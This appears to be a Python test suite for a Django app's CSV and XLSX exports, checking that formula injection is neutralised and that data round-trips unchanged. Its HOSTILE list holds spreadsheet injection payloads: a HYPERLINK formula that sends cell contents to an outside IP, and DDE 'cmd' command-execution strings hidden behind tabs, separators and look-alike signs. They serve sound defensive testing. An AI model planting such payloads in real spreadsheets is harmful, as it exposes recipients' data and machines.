"""Nothing that somebody typed is a formula in the table that another opens; what goes out comes in unchanged."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

import muster
from muster.features.activities.actions import register_activity, take_table
from muster.features.activities.models import Activity
from muster.features.matrix.figures import KEYS
from muster.ui.sheets import from_csv, neutral_in_csv, plain, stream_csv
from tests.security.world import make_world, values

SIGNS = "=+-@＝＋－＠"
SEPARATORS = [",", ";", "\t", "|"]
HOSTILE = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "harmless;=1+1",
    'harmless";"=1+1',
    "harmless,\t'=1+1",
    "＝1+1",
    " \u00a0=1+1",
]
TEXT = st.text(st.sampled_from([*SIGNS, *"\t\r\n ;,|\"'", "a", "ë", "1"]) | st.characters(exclude_categories=["Cs"]))
SOURCE = Path(muster.__file__).parent


def cells(content: str, separator: str) -> list[str]:
    """As a program sees them that parts lines at this sign; one that does not know the quotes, too."""
    rows = csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline=""), delimiter=separator)
    return [cell for row in rows for cell in row]


def naive_cells(content: str, separator: str) -> list[str]:
    lines = content.removeprefix("\ufeff").replace("\r", "\n").split("\n")
    return [cell.strip(' "') for line in lines for cell in line.split(separator)]


def formulas(found: list[str]) -> list[str]:
    return [cell for cell in found if cell.lstrip().startswith(tuple(SIGNS)) and not is_number(cell)]


def is_number(cell: str) -> bool:
    """A number of ours: it has its sign by right."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), min_size=1, max_size=4))
def test_no_text_is_a_formula_wherever_a_program_parts_the_line(rows):
    content = b"".join(stream_csv(["name"], rows)).decode()
    for separator in SEPARATORS:
        assert not formulas([cell for cell in naive_cells(content, separator) if not is_number(cell)])
        assert not formulas(cells(content, separator))


@given(TEXT)
def test_every_text_comes_back_as_it_was(text):
    assert plain(from_csv(neutral_in_csv(text))) == text


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_stay_numbers(number):
    assert neutral_in_csv(number) == number


@pytest.fixture
def hostile(unit, person, client, settings, tmp_path):
    """A mission in which everything that can be typed is a formula."""
    settings.ORIGINALS = tmp_path / "originals"
    unit.name_en = unit.short_name = HOSTILE[0][:40]
    unit.save()
    somebody = person("reporting_officer", full_name=HOSTILE[1])
    client.force_login(somebody)
    make_world(somebody, unit)
    for text in HOSTILE:
        told = values(unit, text, narrative=text, places=(text,), partners=(text, "Kosovo Police"), reference=text[:40])
        register_activity(somebody, told)
    return somebody


DOORS = [
    *(f"/activities/export.{form}" for form in ("csv", "xlsx")),
    *(f"/api/activities/export/{form}" for form in ("csv", "xlsx")),
    *(f"/matrix/table.{form}?year=2026" for form in ("csv", "xlsx", "hxl.csv")),
    *(f"/matrix/charts/{key}.{form}?year=2026" for key in KEYS for form in ("csv", "xlsx", "hxl.csv")),
]


@pytest.mark.django_db
@pytest.mark.parametrize("address", DOORS)
def test_no_door_lets_a_formula_out(client, hostile, address):
    answer = client.get(address)
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"].startswith("attachment")
    refuse_formulas(b"".join(answer.streaming_content), xlsx=".xlsx" in address or address.endswith("/xlsx"))


def refuse_formulas(content: bytes, *, xlsx: bool) -> None:
    if xlsx:
        found = [cell for page in load_workbook(io.BytesIO(content)) for row in page.iter_rows() for cell in row]
        assert "f" not in {cell.data_type for cell in found}
        assert not [cell.hyperlink for cell in found if cell.hyperlink]
        assert not formulas([cell.value for cell in found if isinstance(cell.value, str)])
        return
    for separator in SEPARATORS:
        assert not formulas(cells(content.decode(), separator))
        assert not formulas(naive_cells(content.decode(), separator))


@pytest.mark.django_db
def test_the_rows_that_are_wrong_go_back_without_formulas(client, hostile, unit):
    rows = [["Title", "Theme", "Kind", "Column", "From"], *([text, "=1+1", "@x", "-1", "+x"] for text in HOSTILE)]
    target = io.StringIO()
    csv.writer(target).writerows(rows)
    load = take_table(hostile, "hostile.csv", target.getvalue().encode())
    answer = client.get(f"/activities/tables/{load.pk}/wrong.csv")
    content = b"".join(answer.streaming_content)
    assert b"=1+1" in content
    refuse_formulas(content, xlsx=False)


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_what_goes_out_hostile_comes_in_as_the_same(client, hostile, form):
    content = b"".join(client.get(f"/activities/export.{form}").streaming_content)
    load = take_table(hostile, f"activities.{form}", content)
    assert {row.state for row in load.rows.all()} == {"same"}
    assert load.rows.count() == Activity.objects.count()


def test_tables_are_written_in_one_place_only():
    """Whoever writes cells past `muster.ui.sheets` writes them past its guard."""
    writers = {"csv.writer", "csv.DictWriter", "xlsxwriter", "openpyxl.Workbook"}
    ours = [path for path in SOURCE.rglob("*.py") if not {"tests", "node_modules"} & set(path.parts)]
    found = {str(path.relative_to(SOURCE)) for path in ours if writers & named(path)}
    assert found - {"domain/forms/book.py"} == {"ui/sheets.py"}  # a form as it was written: every cell of it is text


def named(path: Path) -> set[str]:
    """Modules, and what of them, that a source file uses."""
    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            found.add(f"{node.value.id}.{node.attr}")
        elif isinstance(node, ast.ImportFrom):
            found |= {f"{node.module}.{alias.name}" for alias in node.names} | {str(node.module)}
        elif isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names}
    return found


def test_the_guard_sees_every_hostile_text():
    for text in HOSTILE:
        assert neutral_in_csv(text) != text
